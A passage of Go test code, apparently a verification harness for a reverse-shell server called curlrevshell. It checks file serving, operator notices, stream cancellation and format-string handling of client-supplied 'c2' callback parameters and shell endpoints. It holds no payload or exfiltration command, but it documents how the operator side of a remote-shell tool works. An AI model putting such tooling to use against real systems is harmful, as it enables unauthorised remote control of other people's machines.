			if strings.Contains(cl.Line, "File requested: /a?req=") {
				reported++
			}
		case <-deadline:
			r.Violate(ev.Violation{Signature: "stalled-operator/hang", What: fmt.Sprintf("%d of %d requests answered, %d reported", served, n, reported), Kind: "c09", Replay: c09Case{Config: "dir:flat", Target: "/a (stalled operator)"}})
			return
		}
	}
	for _, cl := range w.Drain() {
		if strings.Contains(cl.Line, "File requested: /a?req=") {
			reported++
		}
	}
	if reported != n {
		r.Violate(ev.Violation{Signature: "stalled-operator/unreported", What: fmt.Sprintf("%d file requests were served while the operator's queue (capacity %d) was full, only %d were reported", n, cap, reported), Kind: "c09", Replay: c09Case{Config: "dir:flat", Target: "/a (stalled operator)"}})
	}
	r.Add(n)
	r.AddDistinct(1)
}

func c09SingleFileConcurrent(r *ev.Result, root string) {
	big := filepath.Join(root, "bigfile.bin")
	mk := func(tag byte) []byte {
		b := make([]byte, 3<<20)
		for i := range b {
			b[i] = tag + byte(i%251)
		}
		return b
	}
	content := mk(1)
	os.WriteFile(big, content, 0o644)
	defer os.Remove(big)
	w, err := hworld.Start(hworld.Config{FDir: big})
	if nil != err {
		ev.Broken("%s", err)
	}
	defer w.Stop()
	go func() { /* The operator keeps reading. */
		for range w.Och {
		}
	}()
	viol := func(sig, what string) {
		r.Violate(ev.Violation{Signature: "single-file/" + sig, What: what, Kind: "c09", Replay: c09Case{Config: "file", Target: "/x (concurrent / replaced)"}})
	}
	fetch := func(path string) ([]byte, error) {
		c, err := w.Dial("")
		if nil != err {
			return nil, err
		}
		defer c.Close()
		res, err := c.Do(hworld.Get(path, w.Addr))
		if nil != err {
			return nil, err
		}
		return res.Body, nil
	}
	for round := 0; round < 3; round++ {
		errs := make(chan string, 8)
		for i := 0; i < 8; i++ {
			go func(i int) {
				b, err := fetch(fmt.Sprintf("/whatever/%d", i))
				switch {
				case nil != err:
					errs <- fmt.Sprintf("request failed: %v", err)
				case !bytes.Equal(b, content):
					errs <- fmt.Sprintf("body of %d bytes differs from the file (%d bytes, first difference at %d)", len(b), len(content), firstDiff(b, content))
				default:
					errs <- ""
				}
			}(i)
		}
		for i := 0; i < 8; i++ {
			if e := <-errs; "" != e {
				viol("concurrent", "8 clients fetching the single file at the same time: "+e)
			}
		}
	}
	/* The file is replaced (new inode, new content). */
	content = mk(101)
	os.WriteFile(big+".new", content, 0o644)
	os.Rename(big+".new", big)
	if b, err := fetch("/after-replacement"); nil != err || !bytes.Equal(b, content) {
		viol("replaced", fmt.Sprintf("after the file was replaced, a request returned %d bytes (err %v) that are not the file's present content", len(b), err))
	}
	r.Add(25)
	r.AddDistinct(2)
}

func c09Replay(kind string, raw json.RawMessage) int {
	var c c09Case
	if err := json.Unmarshal(raw, &c); nil != err {
		return 2
	}
	base := ev.Scratch("c09r-")
	defer os.RemoveAll(base)
	root := c09BuildTrees(base)
	w, err := hworld.Start(hworld.Config{FDir: c09FDir(root, c.Config)})
	if nil != err {
		fmt.Println(err)
		return 2
	}
	defer w.Stop()
	conn, _ := w.Dial("")
	method, target := "GET", c.Target
	if m, rest, ok := strings.Cut(target, " "); ok && !strings.HasPrefix(target, "/") {
		method, target = m, rest
	}
	res, err := conn.Do(method + " " + target + " HTTP/1.1\r\nHost: " + w.Addr + "\r\nContent-Length: 0\r\n\r\n")
	if nil != err {
		fmt.Println("request error:", err)
		return 2
	}
	ns := w.Drain()
	fmt.Printf("status %d\nheaders %v\nbody %q\nnotices %s\n", res.Status, res.Header, res.Body, hworld.NoticeText(ns))
	r := ev.New("C09", "quick", "exploration")
	c09Judge(r, c, res, ns)
	if r.NViolations() > 0 {
		fmt.Println("reproduced (note: replay does not hold /i and /o attached, shell endpoints may attach instead of refusing)")
		return 1
	}
	fmt.Println("not reproduced")
	return 0
}

// c09Descriptors: single-file mode keeps returning the file however many
// requests come between two runs of the garbage collector.  Run in a worker
// process whose descriptor limit is a few dozen above what it has open, with
// the collector (and so every finalizer that might close a forgotten file)
// switched off: 300 requests, each must get the file.
func c09Descriptors(r *ev.Result, root string) {
	out, err := exec.Command(os.Args[0], "worker", "c09fd", filepath.Join(root, "flat", "a")).Output()
	var res struct {
		Requests int    `json:"requests"`
		FailedAt int    `json:"failed_at"`
		Status   int    `json:"status"`
		Body     string `json:"body"`
		Err      string `json:"err"`
	}
	if jerr := json.Unmarshal(out, &res); nil != jerr || nil != err {
		ev.Broken("c09fd worker: %v %v %q", err, jerr, trunc80(string(out)))
	}
	if "" != res.Err {
		ev.Broken("c09fd worker: %s", res.Err)
	}
	if res.FailedAt > 0 {
		r.Violate(ev.Violation{Signature: "single-file/descriptors-run-out", Kind: "c09", Replay: c09Case{Config: "file", Target: fmt.Sprintf("/anything (request number %d in a process with ~40 spare descriptors, collector off)", res.FailedAt)},
			What: fmt.Sprintf("single-file mode, one process, no garbage collection in between: request number %d did not get the file (status %d, body %q); every request leaves a descriptor open", res.FailedAt, res.Status, trunc80(res.Body))})
	}
	r.Add(res.Requests)
	r.Set("single_file_requests_without_gc", res.Requests)
}

func init() {
	workers["c09fd"] = func(args []string) int {
		type result struct {
			Requests int    `json:"requests"`
			FailedAt int    `json:"failed_at"`
			Status   int    `json:"status"`
			Body     string `json:"body"`
			Err      string `json:"err"`
		}
		var res result
		emit := func() int { json.NewEncoder(os.Stdout).Encode(res); return 0 }
		w, err := hworld.Start(hworld.Config{FDir: args[0]})
		if nil != err {
			res.Err = err.Error()
			return emit()
		}
		c, err := w.Dial("")
		if nil != err {
			res.Err = err.Error()
			return emit()
		}
		/* One request to have everything lazily opened. */
		c.Do("GET /warm-up HTTP/1.1\r\nHost: x\r\n\r\n")
		w.Drain()
		ents, _ := os.ReadDir("/proc/self/fd")
		lim := syscall.Rlimit{}
		syscall.Getrlimit(syscall.RLIMIT_NOFILE, &lim)
		lim.Cur = uint64(len(ents) + 40)
		if err := syscall.Setrlimit(syscall.RLIMIT_NOFILE, &lim); nil != err {
			res.Err = "setrlimit: " + err.Error()
			return emit()
		}
		debug.SetGCPercent(-1)
		for i := 1; i <= 300; i++ {
			rs, err := c.Do(fmt.Sprintf("GET /some/path/%d HTTP/1.1\r\nHost: x\r\n\r\n", i))
			w.Drain()
			res.Requests = i
			if nil != err || 200 != rs.Status || "IN:flat:a\n" != string(rs.Body) {
				res.FailedAt = i
				if nil != rs {
					res.Status, res.Body = rs.Status, string(rs.Body)
				} else {
					res.Body = fmt.Sprint(err)
				}
				break
			}
		}
		return emit()
	}
}

// c09StalledDownload: a client asks for a file far larger than any socket
// buffer, reads a little and then stalls; the operator has been told about
// the request all the same (the report does not wait for the transfer).
func c09StalledDownload(r *ev.Result, root string) {
	big := filepath.Join(root, "big-sparse-file")
	f, err := os.Create(big)
	if nil != err {
		ev.Broken("%s", err)
	}
	f.Truncate(256 << 20) /* Sparse: costs nothing on disk. */
	f.Close()
	defer os.Remove(big)
	w, err := hworld.Start(hworld.Config{FDir: big})
	if nil != err {
		ev.Broken("%s", err)
	}
	defer w.Stop()
	c, err := w.Dial("")
	if nil != err {
		ev.Broken("%s", err)
	}
	defer c.Close()
	c.Send(hworld.Get("/payload", w.Addr))
	buf := make([]byte, 1<<20)
	c.C.SetReadDeadline(time.Now().Add(hworld.Watchdog))
	got := 0
	for got < len(buf) {
		n, err := c.R.Read(buf)
		got += n
		if nil != err {
			break
		}
	}
	/* The client now holds a mebibyte of the file and reads no more. */
	if _, ok := w.WaitNotice(func(cl opshell.CLine) bool { return strings.Contains(cl.Line, "File requested: ") }); !ok {
		r.Violate(ev.Violation{Signature: "file-not-reported/stalled-download", Kind: "c09", Replay: c09Case{Config: "file", Target: "/payload (256 MiB file, client stalls after 1 MiB)"},
			What: fmt.Sprintf("a client received %d bytes of a 256 MiB file and then stopped reading: 30 s later the operator still has not been told about the request", got)})
	}
	/* While that download is stalled, another client asks for the file:
	it is served and announced like any other. */
	c2, err := w.Dial("")
	if nil != err {
		ev.Broken("%s", err)
	}
	defer c2.Close()
	w.Drain()
	c2.Send(hworld.Get("/second-request", w.Addr))
	c2.C.SetReadDeadline(time.Now().Add(hworld.Watchdog))
	first := make([]byte, 4096)
	n, rerr := io.ReadFull(c2.R, first)
	_, told := w.WaitNotice(func(cl opshell.CLine) bool { return strings.Contains(cl.Line, "File requested: /second-request") })
	if n < len(first) || !told {
		r.Violate(ev.Violation{Signature: "file-not-served/next-to-a-stalled-download", Kind: "c09", Replay: c09Case{Config: "file", Target: "/second-request (while another client's download of the 256 MiB file is stalled)"},
			What: fmt.Sprintf("while one client's download is stalled, a second client's request got %d bytes of an answer within 30 s (%v) and was announced to the operator: %v", n, rerr, told)})
	}
	r.Add(2)
}

// c09NoticeBurst: requests arriving faster than the operator's terminal takes
// notices (they queue on the operator channel): 4 clients, 60 requests each,
// of very different lengths, nothing taken off the channel until all have been
// answered.  Every request has its own notice, carrying its own path.
func c09NoticeBurst(r *ev.Result, root string) {
	w, err := hworld.Start(hworld.Config{FDir: c09FDir(root, "dir:flat")})
	if nil != err {
		ev.Broken("%s", err)
	}
	defer w.Stop()
	w.Drain()
	const nClients, nReqs = 4, 60
	var (
		mu   sync.Mutex
		sent = map[string]int{}
		wg   sync.WaitGroup
	)
	for k := 0; k < nClients; k++ {
		wg.Add(1)
		go func(k int) {
			defer wg.Done()
			c, err := w.Dial("")
			if nil != err {
				return
			}
			defer c.Close()
			for i := 0; i < nReqs; i++ {
				/* Long, short, long, ...: a later notice shorter or longer
				than the one before it. */
				path := fmt.Sprintf("/burst-%d-%03d-%s", k, i, strings.Repeat("x", []int{0, 200, 3, 90, 1}[i%5]))
				if _, err := c.Do(hworld.Get(path, w.Addr)); nil != err {
					return
				}
				mu.Lock()
				sent[path]++
				mu.Unlock()
			}
		}(k)
	}
	wg.Wait()
	got := map[string]int{}
	var odd []string
	for _, cl := range w.Drain() {
		i := strings.Index(cl.Line, "File requested: ")
		if i < 0 {
			continue
		}
		p := strings.TrimSpace(cl.Line[i+len("File requested: "):])
		if _, ok := sent[p]; !ok && len(odd) < 3 {
			odd = append(odd, p)
		}
		got[p]++
	}
	missing := 0
	example := ""
	for p, n := range sent {
		if got[p] != n {
			missing++
			if "" == example {
				example = p
			}
		}
	}
	r.Add(len(sent))
	r.AddDistinct(len(sent))
	r.Set("requests_in_a_burst_of_notices", len(sent))
	if 0 != missing || 0 != len(odd) {
		r.Violate(ev.Violation{Signature: "notice-burst/request-not-reported", Kind: "c09", Replay: c09Case{Config: "dir:flat", Target: "/burst-... (4 clients x 60 requests, notices taken off the channel afterwards)"},
			What: fmt.Sprintf("%d requests answered while the operator channel was not being read; afterwards %d of them have no notice of their own (e.g. %q), and notices name paths nobody requested: %q", len(sent), missing, trunc80(example), odd)})
	}
}

// c09EndpointDirs: a tree with directories named like the shell endpoints
// c, i and o: what lies below them (/c/notes.txt, /i/abc/in.txt - more
// segments than the endpoint has) are files like any others, and with no files
// served such paths are plain 404s.  (/io/ is different: the program gives
// the whole subtree to the bidirectional endpoint.)
func c09EndpointDirs(r *ev.Result, root string) {
	tree := filepath.Join(root, "eps")
	files := map[string]string{
		"c/notes.txt":   "IN:eps:c/notes.txt\n",
		"c/i/o":         "IN:eps:c/i/o\n",
		"i/abc/in.txt":  "IN:eps:i/abc/in.txt\n",
		"o/abc/out.txt": "IN:eps:o/abc/out.txt\n",
	}
	for rel, content := range files {
		p := filepath.Join(tree, rel)
		os.MkdirAll(filepath.Dir(p), 0o755)
		os.WriteFile(p, []byte(content), 0o644)
	}
	defer os.RemoveAll(tree)
	n := 0
	for _, served := range []bool{true, false} {
		cfg := hworld.Config{}
		if served {
			cfg.FDir = tree
		}
		w, err := hworld.Start(cfg)
		if nil != err {
			ev.Broken("%s", err)
		}
		for rel, content := range files {
			c, err := w.Dial("")
			if nil != err {
				ev.Broken("%s", err)
			}
			w.Drain()
			res, err := c.Do(hworld.Get("/"+rel, w.Addr, "Connection: close"))
			c.Close()
			notices := w.Drain()
			n++
			what := ""
			switch {
			case nil != err:
				what = fmt.Sprintf("no answer (%v)", err)
			case served && (200 != res.Status || content != string(res.Body)):
				what = fmt.Sprintf("status %d, body %q instead of the file", res.Status, trunc80(string(res.Body)))
			case served && 1 != strings.Count(hworld.NoticeText(notices), "File requested: /"+rel):
				what = "the file came but the request was not announced once as a file request: " + trunc80(hworld.NoticeText(notices))
			case !served && 404 != res.Status:
				what = fmt.Sprintf("status %d, body %q with no files served", res.Status, trunc80(string(res.Body)))
			}
			if "" != what {
				r.Violate(ev.Violation{Signature: fmt.Sprintf("path-below-endpoint-name/served=%v", served), Kind: "c09", Replay: c09Case{Config: map[bool]string{true: "dir:eps", false: "unset"}[served], Target: "/" + rel},
					What: fmt.Sprintf("GET /%s (a tree whose directories are named c, i, o; files served: %v): %s", rel, served, what)})
			}
		}
		w.Stop()
	}
	r.Add(n)
	r.AddDistinct(n)
	r.Set("paths_below_endpoint_names", n)
}

// c09RealEmptyFlag: the real program with -serve-files-from given but empty
// (a wrapper script's variable that is not set), started in a directory with
// files in it: no files are served.
func c09RealEmptyFlag(r *ev.Result, base string) {
	dir, _ := os.MkdirTemp(base, "emptyflag-")
	defer os.RemoveAll(dir)
	os.WriteFile(filepath.Join(dir, "canary.txt"), []byte("CANARY:cwd\n"), 0o644)
	os.MkdirAll(filepath.Join(dir, "pub"), 0o755)
	os.WriteFile(filepath.Join(dir, "pub", "tool.sh"), []byte("CANARY:cwd-pub\n"), 0o644)
	n := 0
	for _, args := range [][]string{{"-serve-files-from", ""}, {"-serve-files-from="}} {
		p, addr, err := startReal(dir, append([]string{"-listen-address", "127.0.0.1:0", "-tls-certificate-cache", filepath.Join(dir, "c.txtar")}, args...)...)
		if nil != err {
			r.Inc("empty_flag_runs_refused_at_start", 1)
			continue
		}
		for _, t := range []string{"/canary.txt", "/", "/pub/tool.sh", "/c.txtar"} {
			c, err := hworld.DialAddr(addr, "")
			if nil != err {
				break
			}
			res, err := c.Do(hworld.Get(t, addr, "Connection: close"))
			c.Close()
			n++
			if nil == err && (404 != res.Status || bytes.Contains(res.Body, []byte("CANARY"))) {
				r.Violate(ev.Violation{Signature: "binary/empty-flag-serves-the-working-directory", Kind: "c09", Replay: c09Case{Config: "unset", Target: t},
					What: fmt.Sprintf("real binary started with %q in a directory that holds files: GET %s is answered %d %q (no files are to be served)", args, t, res.Status, trunc80(string(res.Body)))})
				break
			}
		}
		stopReal(p)
		p.Close()
	}
	r.Add(n)
	r.AddDistinct(n)
	r.Set("requests_with_an_empty_serve_files_from", n)
}
