package checks

/*
 * A free-running complement to C03's exploration: what the gated exploration
 * cannot produce is an operator's side that is *waiting* for the next item at
 * the very moment a cancellation lands between two steps of the forwarding
 * loop (both are internal to one goroutine's run).  Here the real broker
 * runs ungated against a consumer that takes items at its own pace while the
 * stream is cancelled at every position; the oracle is the prefix clause.
 * This samples schedules (the runtime's); it can only ever add findings.
 */

import (
	"context"
	"fmt"
	"io"
	"log/slog"
	"runtime"
	"strings"
	"sync"
	"time"

	"github.com/magisterquis/curlrevshell/lib/opshell"
	"github.com/magisterquis/curlrevshell/verifx/ev"
	"github.com/magisterquis/curlrevshell/verifx/hworld"
)

// c03PrefixStress runs rounds x positions sessions.
func c03PrefixStress(r *ev.Result, rounds int) {
	n, bad := 0, 0
	sl := slog.New(slog.NewTextHandler(io.Discard, nil))
	stop := false
	for round := 0; round < rounds && 0 == bad && !stop; round++ {
		for cancelAfter := 0; cancelAfter < 6 && 0 == bad && !stop; cancelAfter++ {
			ich := make(chan string, 4)
			och := make(chan opshell.CLine) /* A terminal that takes one item at a time. */
			b, err := hworld.NewBroker(ich, och)
			if nil != err {
				ev.Broken("%s", err)
			}
			ctx, cancel := context.WithCancel(context.Background())
			var wg sync.WaitGroup
			wg.Add(1)
			go func() { defer wg.Done(); b.Do(ctx) }()
			pr, pw := io.Pipe()
			const nChunks = 8
			go func() {
				for i := 0; i < nChunks; i++ {
					if _, err := fmt.Fprintf(pw, "%04d\n", i); nil != err {
						return
					}
				}
				/* No end of its own: the stream is cancelled. */
			}()
			sctx, scancel := context.WithCancel(ctx)
			done := make(chan struct{})
			go func() { defer close(done); b.ConnectOut(sctx, sl, "stress", pr, "k") }()
			/* The operator's side. */
			var shown []string
			taken := 0
			consumerDone := make(chan struct{})
			go func() {
				defer close(consumerDone)
				for cl := range och {
					if cl.Plain {
						shown = append(shown, cl.Line)
						/* (Counted in bytes: the broker may hand over
						several reads as one item.) */
						before := taken
						taken += len(cl.Line)
						if at := 5 * (cancelAfter + 1); before < at && taken >= at {
							/* Busy with this chunk (writing it to
							the terminal) while the stream is cancelled:
							the next one is being offered meanwhile. */
							for k := 0; k < round%7; k++ {
								runtime.Gosched()
							}
							scancel()
							for k := 0; k < round%5; k++ {
								runtime.Gosched()
							}
						}
					}
				}
			}()
			select {
			case <-done:
			case <-time.After(hworld.Watchdog):
				/* The cancellation point was never reached (or the call
				does not return): end everything and judge what was shown. */
				r.Inc("prefix_sessions_ended_by_the_watchdog", 1)
				stop = true /* No point in waiting 30 s again and again. */
				scancel()
				cancel()
				pr.Close()
				select {
				case <-done:
				case <-time.After(hworld.Watchdog):
					r.Violate(ev.Violation{Signature: "free-running/connect-never-returns", Kind: "c03stress", Replay: map[string]int{"round": round, "cancel_after_chunks": cancelAfter + 1},
						What: fmt.Sprintf("real broker, unbuffered operator channel: ConnectOut has not returned %v after its context was cancelled and its reader closed", hworld.Watchdog)})
					r.Add(n)
					return
				}
			}
			pr.Close()
			pw.Close()
			cancel()
			wg.Wait()
			close(och)
			<-consumerDone
			n++
			/* What was shown must be a prefix of what was sent, chunk by
			chunk (the pipe hands over one write per read). */
			got := strings.Join(shown, "")
			want := ""
			for i := 0; i < nChunks; i++ {
				want += fmt.Sprintf("%04d\n", i)
			}
			if !strings.HasPrefix(want, got) {
				bad++
				r.Violate(ev.Violation{Signature: "free-running/shown-not-a-prefix", Kind: "c03stress", Replay: map[string]int{"round": round, "cancel_after_chunks": cancelAfter + 1},
					What: fmt.Sprintf("real broker, unbuffered operator channel whose reader is busy with chunk %d when the stream is cancelled: the operator was shown %q, the shell had sent %q (a chunk was dropped and a later one still shown); free-running, found in round %d", cancelAfter+1, got, want, round)})
			}
		}
	}
	r.Add(n)
	r.Traces += n
	r.Set("free_running_prefix_sessions", n)
}

// zeroReader yields n pieces of data, each followed by a read that returns
// nothing and no error (net/http bodies and pipes do that now and then), then
// EOF.
type zeroReader struct {
	n, i  int
	empty bool
}

func (z *zeroReader) Read(p []byte) (int, error) {
	if z.i >= z.n {
		return 0, io.EOF
	}
	if z.empty {
		z.empty = false
		return 0, nil
	}
	z.empty = true
	z.i++
	return copy(p, fmt.Sprintf("piece %04d\n", z.i)), nil
}

// c03ZeroReads: a stream of 150 (400) pieces with an empty read after each:
// everything is shown, then the stream's end is announced.
func c03ZeroReads(r *ev.Result) {
	for _, n := range []int{150, 400} {
		ich := make(chan string, 4)
		och := make(chan opshell.CLine, 4096)
		b, err := hworld.NewBroker(ich, och)
		if nil != err {
			ev.Broken("%s", err)
		}
		ctx, cancel := context.WithCancel(context.Background())
		var wg sync.WaitGroup
		wg.Add(1)
		go func() { defer wg.Done(); b.Do(ctx) }()
		done := make(chan struct{})
		go func() {
			defer close(done)
			b.ConnectOut(ctx, slog.New(slog.NewTextHandler(io.Discard, nil)), "zero", &zeroReader{n: n}, "k")
		}()
		select {
		case <-done:
		case <-time.After(hworld.Watchdog):
			r.Violate(ev.Violation{Signature: "free-running/zero-length-reads/never-ends", Kind: "c03stress", Replay: map[string]int{"pieces": n},
				What: fmt.Sprintf("an output stream of %d pieces with an empty read after each, then EOF: ConnectOut has not returned after %v", n, hworld.Watchdog)})
			cancel()
			return
		}
		cancel()
		wg.Wait()
		close(och)
		got, notice := "", ""
		for cl := range och {
			if cl.Plain {
				got += cl.Line
			} else if strings.Contains(cl.Line, "closed") {
				notice = cl.Line
			}
		}
		want := ""
		for i := 1; i <= n; i++ {
			want += fmt.Sprintf("piece %04d\n", i)
		}
		r.Add(1)
		r.Traces++
		if got != want {
			r.Violate(ev.Violation{Signature: "free-running/zero-length-reads/output-lost", Kind: "c03stress", Replay: map[string]int{"pieces": n},
				What: fmt.Sprintf("an output stream of %d pieces with an empty read after each, then EOF: %d of %d bytes were shown before the stream was declared closed (%q)", n, len(got), len(want), notice)})
			return
		}
	}
}
