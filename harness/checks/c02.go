package checks

import (
	"encoding/json"
	"fmt"
	"os"
	"runtime"
	"strings"
	"time"

	"github.com/magisterquis/curlrevshell/verifx/bworld"
	"github.com/magisterquis/curlrevshell/verifx/ev"
)

func init() {
	registry["C02"] = checkDef{level: "model_checking", run: c02, replay: func(kind string, raw json.RawMessage) int {
		if "quietspell" == kind {
			return quietSpellReplay(raw)
		}
		if "c02insert" == kind {
			fmt.Println("Ctrl+I findings are replayed by re-running ./run C02 quick; the failing size is in the artefact")
			return 2
		}
		return brokerReplayFunc(kind, raw)
	}}
}

// c02Profiles: lines entered before, between and during successive shells
// with every writer kind, a write or flush failure at every point, clients
// going away, operator input closing.
func c02Profiles(quick bool) []*bworld.Profile {
	kinds := bworld.Profile{
		Name:   "c02-writer-kinds-faults",
		OchCap: 1024,
		Starts: []bworld.StartSpec{
			{Kind: "in", Key: "k", WKind: 0, Max: 1}, {Kind: "in", Key: "k", WKind: 1, Max: 1},
			{Kind: "in", Key: "k", WKind: 2, Max: 1}, {Kind: "in", Key: "k", WKind: 3, Max: 1},
		},
		MaxAttempts: 2,
		MaxLines:    3,
		Cancel:      true,
		WFail:       true,
		Oracles:     []string{"C02"},
	}
	series := bworld.Profile{
		Name:   "c02-shell-series",
		OchCap: 1024,
		Starts: []bworld.StartSpec{
			{Kind: "in", Key: "k", WKind: 2, Max: 3}, {Kind: "io", WKind: 3, Max: 1},
			{Kind: "out", Key: "k", Max: 1},
		},
		MaxAttempts: 3,
		MaxLines:    3,
		Cancel:      true,
		WFail:       true,
		CloseIn:     true,
		Oracles:     []string{"C02"},
	}
	if quick {
		series.MaxAttempts = 3
		series.Starts = series.Starts[:2]
		series.CloseIn = false
		return []*bworld.Profile{&kinds, &series}
	}
	kinds.MaxAttempts = 3
	kinds.MaxLines = 4
	series.MaxLines = 4
	series.Shutdown = true
	return []*bworld.Profile{&kinds, &series}
}

// c02Payloads is the payload alphabet: every string of <=2 symbols plus the
// structural classes.
func c02Payloads(quick bool) []string {
	alpha := []string{"\x00", "\n", "\r", "\x1b", "\x7f", "\x80", "\xff", "a"}
	ps := []string{"", " ", "x", strings.Repeat("y", 65537), "two\nlines", "trailing\n", "\n", "a\n\nb", "\r\n", "%s%d%!", "é", "\xc3"}
	for _, a := range alpha {
		ps = append(ps, a)
		for _, b := range alpha {
			ps = append(ps, a+b)
			if !quick {
				for _, c := range alpha {
					ps = append(ps, a+b+c)
				}
			}
		}
	}
	return ps
}

func c02(r *ev.Result, tier string) {
	r.Rule = brokerRule + "; plus a sequential enumeration of line payloads (all strings of <=2 (thorough 3) symbols over {NUL,LF,CR,ESC,DEL,0x80,0xff,a} and structural classes incl. 64KiB+1) x 4 writer kinds x {entered before, after attach}"
	budget := 120 * time.Second /* a cap for a loaded machine; idle runs need 10-20 s */
	if !isQuick(tier) {
		budget = 10 * time.Minute
	}
	exploreProfiles(r, budget, c02Profiles(isQuick(tier))...)
	/* The HTTP seam: the same clauses through the real handlers over TLS. */
	c02HTTP(r)
	quietSpell(r, "C02")

	/* Payload enumeration: each payload is entered once before the shell
	attaches and once after, on every writer kind. */
	n := 0
	defer gcQuiet()()
	payloads := c02Payloads(isQuick(tier))
	/* Sizes around every power of two up to 1 MiB, entered the way Ctrl+I
	enters its payload (through opshell.ChanWriter). */
	nTyped := len(payloads)
	for k := 10; k <= 20; k++ {
		for _, d := range []int{-1, 0, 1} {
			payloads = append(payloads, strings.Repeat("z", 1<<k+d))
		}
	}
	for pi, pl := range payloads {
		for wk := 0; wk < 4; wk++ {
			if pi >= nTyped && 0 != wk%2 {
				continue
			}
			p := &bworld.Profile{
				ViaChanWriter: pi >= nTyped || 1 == pi%2,
				Name:          "c02-payload",
				OchCap:        1024,
				Starts:        []bworld.StartSpec{{Kind: "in", Key: "k", WKind: wk, Max: 1}},
				MaxAttempts:   1,
				MaxLines:      3,
				Oracles:       []string{"C02"},
				LinePayload:   pl,
			}
			hist := []bworld.Event{
				{Op: "line"}, {Op: "start", Spec: 0}, {Op: "admit", A: 0, Dir: "input"}, {Op: "line"}, {Op: "line"},
			}
			n++
			if 0 == n%16 {
				runtime.GC()
			}
			for _, v := range seqRun(p, hist, "C02") {
				pp := *p
				if len(pp.LinePayload) > 64 {
					/* Keep artefacts small; the class is in the signature. */
				}
				r.Violate(ev.Violation{
					Signature: "payload/" + v.Sig + fmt.Sprintf("/wkind%d", wk),
					What:      fmt.Sprintf("payload %q: %s", trunc80(pl), v.What),
					Kind:      "bworld",
					Replay:    brokerReplay{Profile: &pp, History: hist, Text: bworld.HistString(hist)},
				})
			}
		}
	}
	r.Evaluations += n
	r.Distinct += n
	r.Traces += n
	r.Set("payload_runs", n)
	/* The Ctrl+I seam: the real Shell's insert enters the input channel as
	exactly one entry, whatever its size. */
	runTermSeam(r, "c02", 0, "c02insert")
	{
		base := ev.Scratch("c02bin-")
		c02RealTwoListen(r, base)
		os.RemoveAll(base)
	}
	runTermSeamEnv(r, "c02i2", 0, "c02insert", []string{"VERIF_SEAM=insert-twice"})
	/* The operator's terminal type: lines typed or pasted arrive whatever
	TERM says (a terminal asked to bracket pastes does so). */
	for _, term := range []string{"TERM=xterm-256color", "TERM=screen", "TERM=dumb", "TERM"} {
		runTermSeamEnv(r, "c02t", 0, "c02insert", []string{term})
	}
	r.Sample(12, map[string]any{"payload": "\x00\n", "writer_kind": 2, "history": "line start admit line line"})
}

func trunc80(s string) string {
	if len(s) > 80 {
		return s[:80] + "..."
	}
	return s
}
