package checks

/*
 * C10 — client-supplied text appears verbatim in operator notices, never as
 * a format.  Every string of up to L tokens over a printf-significant token
 * set is placed in every client-controlled position of every reporting
 * handler of the real server (real TLS, hand-written requests); the notice
 * about the request must carry the text as data and no formatter artefact.
 */

import (
	"encoding/json"
	"fmt"
	"io"
	"net"
	"net/url"
	"os"
	"path/filepath"
	"strconv"
	"strings"
	"sync"
	"time"

	"github.com/magisterquis/curlrevshell/lib/opshell"
	"github.com/magisterquis/curlrevshell/verifx/ev"
	"github.com/magisterquis/curlrevshell/verifx/hworld"
)

func init() {
	registry["C10"] = checkDef{level: "exploration", run: c10, replay: c10Replay}
}

var c10Artefacts = []string{"%!", "(MISSING)", "(EXTRA ", "(BADINDEX)", "(NOVERB)", "(BADWIDTH)", "(BADPREC)"}

// Tokens.  Raw ones are usable where the wire syntax does not interpret
// percent signs (query, header values); escapes are valid URL escapes, usable
// everywhere.
var (
	c10Raw     = []string{"%", "%%", "s", "d", "v", "q", "x", "20", "-", "+", "#", "*", "[1]", "!", "a"}
	c10Escapes = []string{"%20", "%25", "%73", "%2B"}
)

type c10Case struct {
	Position string `json:"position"`
	Text     string `json:"text"`
}

// c10Strings enumerates all strings of 1..maxL tokens.
func c10Strings(tokens []string, maxL int) []string {
	var out []string
	var rec func(prefix string, d int)
	rec = func(prefix string, d int) {
		if d > 0 {
			out = append(out, prefix)
		}
		if d == maxL {
			return
		}
		for _, t := range tokens {
			rec(prefix+t, d+1)
		}
	}
	rec("", 0)
	return out
}

// c10Request builds the raw request for a case and says what the notice must
// contain verbatim and which notice prefix identifies it.
func c10Request(c c10Case, host string) (raw, want, marker string, ok bool) {
	t := c.Text
	pathSafe := !strings.ContainsAny(t, "#? ") /* '#' would start a fragment, never sent on the wire */
	unesc, uerr := url.PathUnescape(t)
	qunesc, qerr := url.QueryUnescape(t)
	switch c.Position {
	case "file-path":
		if !pathSafe || nil != uerr {
			return "", "", "", false
		}
		return hworld.Get("/zz"+t, host), "/zz" + t, "File requested: ", true
	case "file-query":
		if strings.ContainsAny(t, "# ") {
			return "", "", "", false
		}
		return hworld.Get("/zz?"+t, host), "?" + t, "File requested: ", true
	case "c2-param":
		if strings.ContainsAny(t, "#& ") || nil != qerr || "" == qunesc {
			return "", "", "", false
		}
		return hworld.Get("/c?c2="+t, host), "URL:" + qunesc, "Sent script: ", true
	case "c2-param-bad-escape":
		/* Invalid escapes: the error branch reports. */
		if strings.ContainsAny(t, "#& ") || nil == qerr {
			return "", "", "", false
		}
		return hworld.Get("/c?c2="+t, host), "", "Could not determine callback URL: ", true
	case "c2-header":
		if "" == strings.TrimSpace(t) || strings.TrimSpace(t) != t {
			return "", "", "", false
		}
		return hworld.Get("/c", host, "c2: "+t), "URL:" + t, "Sent script: ", true
	case "script-query-noise":
		if strings.ContainsAny(t, "# ") || nil != qerr {
			return "", "", "", false
		}
		return hworld.Get("/c?x="+t, host), "", "Sent script: ", true
	case "input-id-refused", "output-id-refused":
		if !pathSafe || nil != uerr || "" == unesc || strings.Contains(unesc, "/") {
			return "", "", "", false
		}
		ep := "/i/"
		if "output-id-refused" == c.Position {
			ep = "/o/"
		}
		return hworld.Get(ep+t, host), strconv.Quote(unesc), "Rejected ", true
	}
	return "", "", "", false
}

// c10ClientSent reports whether the client itself sent a (raw or in either
// URL-decoded reading of its text).
func c10ClientSent(text, a string) bool {
	if strings.Contains(text, a) {
		return true
	}
	if u, err := url.PathUnescape(text); nil == err && strings.Contains(u, a) {
		return true
	}
	if u, err := url.QueryUnescape(text); nil == err && strings.Contains(u, a) {
		return true
	}
	return false
}

// c10Judge checks the notices of one request.
func c10Judge(r *ev.Result, c c10Case, notices []opshell.CLine, want, marker string) {
	v := func(sig, what string) {
